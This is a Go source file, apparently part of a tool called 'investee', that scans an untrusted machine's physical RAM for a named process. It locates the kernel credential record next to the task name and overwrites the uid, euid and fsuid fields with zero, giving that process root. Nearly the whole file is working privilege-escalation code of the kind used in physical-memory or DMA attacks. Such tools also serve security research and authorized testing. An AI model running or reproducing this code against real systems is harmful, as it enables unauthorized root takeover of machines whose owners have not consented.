// Package procscan finds processes in the untrusted system's RAM by
// name and rewrites their credentials.
//
// A process is recognized by its NUL padded name (the kernel's
// task "comm" field). The credential pointer is expected a fixed
// distance before the name, and is only trusted if it looks like a
// kernel linear map address. All of this is heuristic. Each decision
// is recorded in the Report as a Verdict.
package procscan

import (
	"errors"
	"fmt"
	"log"

	"gitlab.com/stephen-fox/investee/memory"
	"gitlab.com/stephen-fox/investee/profile"
)

const (
	// MaxNameLen is the longest name that can be searched for.
	// The name field is 16 bytes including its NUL terminator.
	MaxNameLen = 15

	// NameAlign is the alignment of the name field within a task.
	NameAlign = 8
)

var (
	ErrSignatureTooLong = fmt.Errorf("signature is longer than %d bytes", MaxNameLen)
	ErrEmptySignature   = errors.New("signature cannot be empty")
	ErrUnalignedRAM     = errors.New("ram base is not page aligned")
)

// Memory is the physical memory access a Scanner needs.
// *memory.Accessor implements it.
type Memory interface {
	Read64(pa memory.PhysAddr) uint64
	Read32(pa memory.PhysAddr) uint32
	Write32(pa memory.PhysAddr, value uint32)
	ReadPage(pa memory.PhysAddr, out *[memory.PageSize]byte)
	LastFailed() bool
}

// Scanner searches RAM for a process name and zeroes the uid, euid
// and fsuid of every matching process whose uid is below the
// profile's UIDCeiling.
type Scanner struct {
	Mem     Memory
	Profile profile.Profile
	Verbose *log.Logger
}

// Report describes a FindAndFix call.
type Report struct {
	// PatchCount is the number of credential records rewritten.
	PatchCount int

	// Matches lists every location where the name matched,
	// in ascending address order.
	Matches []Match

	// UnreadablePages counts RAM pages that could not be mapped.
	UnreadablePages int
}

// Match is one occurrence of the name and what was done about it.
type Match struct {
	Name        memory.PhysAddr
	CredPointer uint64

	// Cred and the ids are only set once the pointer was accepted.
	// The ids are the values found before patching.
	Cred  memory.PhysAddr
	UID   uint32
	EUID  uint32
	FSUID uint32

	Verdict   Verdict
	Rationale string
}

// FindAndFixDefault calls FindAndFix over the profile's RAM.
func (o *Scanner) FindAndFixDefault(name string) (Report, error) {
	ram := o.Profile.RAM()

	return o.FindAndFix(name, ram.Start, ram.Size)
}

// FindAndFix visits every page of [ramBase, ramBase+ramSize) and
// every NameAlign aligned offset in it. A match is never the end
// of the search, so every copy of the name is processed.
func (o *Scanner) FindAndFix(name string, ramBase memory.PhysAddr, ramSize uint64) (Report, error) {
	sig, err := newSignature(name)
	if err != nil {
		return Report{}, err
	}

	if !ramBase.IsPageAligned() {
		return Report{}, fmt.Errorf("%w - %s", ErrUnalignedRAM, ramBase)
	}

	if o.Verbose != nil {
		o.Verbose.Printf("searching for %q in %s", name,
			memory.Region{Start: ramBase, Size: ramSize})
	}

	var report Report
	var page [memory.PageSize]byte

	for j := uint64(0); j < ramSize; j += memory.PageSize {
		pagePA := ramBase.Add(j)

		o.Mem.ReadPage(pagePA, &page)
		if o.Mem.LastFailed() {
			report.UnreadablePages++
			continue
		}

		for i := 0; i < memory.PageSize; i += NameAlign {
			if !sig.matches(page[:], i) {
				continue
			}

			match := o.fix(pagePA.Add(uint64(i)))
			if match.Verdict == VerdictPatched {
				report.PatchCount++
			}

			if o.Verbose != nil {
				o.Verbose.Printf("%s: %s", match.Name, match)
			}

			report.Matches = append(report.Matches, match)
		}
	}

	if o.Verbose != nil {
		o.Verbose.Printf("%d match(es), %d patched, %d unreadable page(s)",
			len(report.Matches), report.PatchCount, report.UnreadablePages)
	}

	return report, nil
}

func (o *Scanner) fix(namePA memory.PhysAddr) Match {
	p := o.Profile

	match := Match{
		Name: namePA,
	}

	match.CredPointer = o.Mem.Read64(namePA - memory.PhysAddr(p.CredPointerBackOffset))
	if o.Mem.LastFailed() {
		return match.with(VerdictUnreadable, "the credential pointer could not be read")
	}

	if match.CredPointer <= uint64(p.KernelPointerFloor) {
		return match.with(VerdictPointerRejected,
			fmt.Sprintf("0x%x is not above the kernel pointer floor 0x%x",
				match.CredPointer, uint64(p.KernelPointerFloor)))
	}

	match.Cred = memory.PhysAddr(match.CredPointer - uint64(p.LinearMapOffset))

	uidPA := match.Cred.Add(uint64(p.Cred.UID))
	euidPA := match.Cred.Add(uint64(p.Cred.EUID))
	fsuidPA := match.Cred.Add(uint64(p.Cred.FSUID))

	var failed bool
	read := func(pa memory.PhysAddr) uint32 {
		v := o.Mem.Read32(pa)
		failed = failed || o.Mem.LastFailed()
		return v
	}

	match.UID = read(uidPA)
	match.EUID = read(euidPA)
	match.FSUID = read(fsuidPA)

	if failed {
		return match.with(VerdictUnreadable,
			fmt.Sprintf("the credential record at %s could not be read", match.Cred))
	}

	if match.UID >= p.UIDCeiling {
		return match.with(VerdictUIDRejected,
			fmt.Sprintf("uid %d is not below the ceiling %d", match.UID, p.UIDCeiling))
	}

	for _, pa := range []memory.PhysAddr{euidPA, uidPA, fsuidPA} {
		o.Mem.Write32(pa, 0)
		if o.Mem.LastFailed() {
			return match.with(VerdictWriteDropped,
				fmt.Sprintf("write to %s was dropped", pa))
		}
	}

	return match.with(VerdictPatched,
		fmt.Sprintf("pointer above 0x%x and uid %d below %d",
			uint64(p.KernelPointerFloor), match.UID, p.UIDCeiling))
}

func (o Match) with(v Verdict, rationale string) Match {
	o.Verdict = v
	o.Rationale = rationale
	return o
}

func (o Match) String() string {
	return fmt.Sprintf("%s (%s)", o.Verdict, o.Rationale)
}
